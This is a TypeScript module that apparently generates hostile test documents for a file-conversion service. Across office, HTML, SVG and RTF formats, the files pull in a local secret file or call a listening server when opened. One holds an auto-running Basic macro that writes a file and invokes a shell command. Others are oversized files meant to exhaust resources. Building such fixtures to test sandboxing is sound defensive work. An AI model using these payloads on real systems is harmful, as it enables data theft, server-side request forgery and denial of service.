/** Documents that want what is not theirs: a file of the machine, a call into its network, or the whole of it. */
import { archive } from './archive.ts'
import { flat } from './flat.ts'

export interface Hostile {
  /** What it does, as the end of “a document that …”. */
  does: string
  format: string
  bytes: Buffer | string
}

export interface Prey {
  /** URL of a text document that holds a secret. */
  file: string
  /** URL of a server that hears whether anybody calls. */
  server: string
  /** A path that a macro would like to write to. */
  written: string
}

const LINK = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'

/** One of each kind; each tries both the file and the server where its kind can. */
export async function thieves(prey: Prey): Promise<Hostile[]> {
  return [
    { does: 'links objects and pictures on a slide', format: 'fodp', bytes: slide(prey) },
    { does: 'links a section of its text', format: 'fodt', bytes: section(prey) },
    { does: 'links a table from elsewhere', format: 'fods', bytes: linkedTable(prey) },
    { does: 'asks the network in a cell', format: 'fods', bytes: askingCell(prey) },
    { does: 'shows frames and pictures of a web page', format: 'html', bytes: page(prey) },
    { does: 'draws pictures from elsewhere', format: 'svg', bytes: drawing(prey) },
    { does: 'runs a macro when it opens', format: 'fodt', bytes: macro(prey) },
    { does: 'takes its template and pictures from elsewhere', format: 'docx', bytes: await word(prey) },
    { does: 'fetches over WebDAV and FTP', format: 'fodp', bytes: slide(otherWays(prey)) },
    { does: 'reads fields from a file', format: 'rtf', bytes: richText(prey) },
  ]
}

/** Small files that become as large as they can. Each needs a limit to be stopped. */
export function gluttons(): Hostile[] {
  const rows =
    '<table:table-row table:number-rows-repeated="1048000"><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
  const breaks = `${'<style:style style:name="b" style:family="paragraph"><style:paragraph-properties xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" fo:break-before="page"/></style:style>'}`
  return [
    {
      does: 'prints a million rows',
      format: 'fods',
      bytes: flat('spreadsheet', `<table:table table:name="t"><table:table-column/>${rows}</table:table>`),
    },
    {
      does: 'has a hundred thousand pages',
      format: 'fodt',
      bytes: flat('text', '<text:p text:style-name="b">x</text:p>'.repeat(100_000), { styles: breaks }),
    },
  ]
}

function slide({ file, server }: Prey): string {
  const frames = [
    `<draw:object xlink:href="${file}" ${LINK}/>`,
    `<draw:object xlink:href="${server}/object.odt" ${LINK}/>`,
    `<draw:image xlink:href="${server}/picture.png" ${LINK}/>`,
    `<draw:floating-frame xlink:href="${server}/frame.html" ${LINK}/>`,
  ].map(
    (content, index) =>
      `<draw:frame svg:x="1cm" svg:y="${index * 5}cm" svg:width="12cm" svg:height="5cm">${content}</draw:frame>`,
  )
  return flat('presentation', `<draw:page draw:name="p">${frames.join('')}</draw:page>`)
}

function section({ file, server }: Prey): string {
  const sections = [file, `${server}/section.odt`].map(
    (href, index) =>
      `<text:section text:name="s${index}"><text:section-source xlink:type="simple" xlink:href="${href}"/><text:p>empty</text:p></text:section>`,
  )
  return flat('text', sections.join(''))
}

function linkedTable({ file, server }: Prey): string {
  const tables = [file, `${server}/table.ods`].map(
    (href, index) =>
      `<table:table table:name="t${index}"><table:table-source xlink:type="simple" xlink:href="${href}"/><table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`,
  )
  return flat('spreadsheet', tables.join(''))
}

function askingCell({ server, file }: Prey): string {
  const cells = [`WEBSERVICE(&quot;${server}/cell&quot;)`, `WEBSERVICE(&quot;${file}&quot;)`].map(
    formula =>
      `<table:table-cell table:formula="of:=COM.MICROSOFT.${formula}" office:value-type="string"><text:p>x</text:p></table:table-cell>`,
  )
  return flat(
    'spreadsheet',
    `<table:table table:name="t"><table:table-row>${cells.join('')}</table:table-row></table:table>`,
  )
}

function page({ file, server }: Prey): string {
  return `<html><head><link rel="stylesheet" href="${server}/style.css"><base href="${server}/"></head>
<body background="${server}/background.png"><p>x</p><iframe src="${file}"></iframe><iframe src="${server}/frame"></iframe>
<img src="${server}/picture.png"><object data="${file}"></object><script src="${server}/script.js"></script></body></html>`
}

function drawing({ file, server }: Prey): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">
<image xlink:href="${server}/picture.png" width="50" height="50"/><image href="${file}" width="50" height="50"/>
<use xlink:href="${server}/other.svg#a"/><style>@import url("${server}/style.css");</style><text y="20">x</text></svg>`
}

function macro({ written, server }: Prey): string {
  const code = `Sub Main\nOpen &quot;${written}&quot; For Output As #1\nPrint #1, &quot;x&quot;\nClose #1\nShell(&quot;/usr/bin/touch ${written}&quot;)\nEnd Sub`
  const library = `<office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>${code}</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>`
  const events = ['dom:load', 'office:load-finished', 'office:view-created'].map(
    event =>
      `<script:event-listener script:language="ooo:script" script:event-name="${event}" xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>`,
  )
  const scripts = `<office:scripts>${library}<office:event-listeners xmlns:dom="http://www.w3.org/2001/xml-events">${events.join('')}</office:event-listeners></office:scripts>`
  return flat('text', `<text:p>x</text:p><text:p>${server}</text:p>`, { scripts })
}

function richText({ file, server }: Prey): string {
  const path = new URL(file).pathname
  return `{\\rtf1\\ansi {\\field{\\*\\fldinst INCLUDETEXT "${path}"}{\\fldrslt x}}
{\\field{\\*\\fldinst INCLUDEPICTURE "${server}/picture.png" \\\\d}{\\fldrslt x}}
{\\*\\template ${server}/template.dot} x}`
}

function word({ file, server }: Prey): Promise<Buffer> {
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const relationship = (id: string, kind: string, target: string, mode = 'External') =>
    `<Relationship Id="${id}" Type="${type}/${kind}" Target="${target}" ${mode === 'External' ? 'TargetMode="External"' : ''}/>`
  const picture = `<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style="width:100pt;height:100pt"><v:imagedata r:id="p" /></v:shape></w:pict></w:r></w:p>`
  const field = `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;${new URL(file).pathname}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`
  const object = `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document" ShapeID="s" DrawAspect="Content" ObjectID="1" r:id="o"/></w:object></w:r></w:p>`
  const relationships = (...all: string[]) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`
  return archive({
    '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    '_rels/.rels': relationships(relationship('d', 'officeDocument', 'word/document.xml', 'Internal')),
    'word/document.xml': `<w:document xmlns:w="${w}" xmlns:r="${type}"><w:body>${picture}${field}${object}</w:body></w:document>`,
    'word/settings.xml': `<w:settings xmlns:w="${w}" xmlns:r="${type}"><w:attachedTemplate r:id="t"/></w:settings>`,
    'word/_rels/settings.xml.rels': relationships(
      relationship('t', 'attachedTemplate', `${server}/template.dotx`),
    ),
    'word/_rels/document.xml.rels': relationships(
      relationship('p', 'image', `${server}/picture.png`),
      relationship('o', 'oleObject', file),
      relationship('s', 'settings', 'settings.xml', 'Internal'),
    ),
  })
}

function otherWays({ server, ...rest }: Prey): Prey {
  return { ...rest, server: server.replace('http:', 'vnd.sun.star.webdav:') }
}
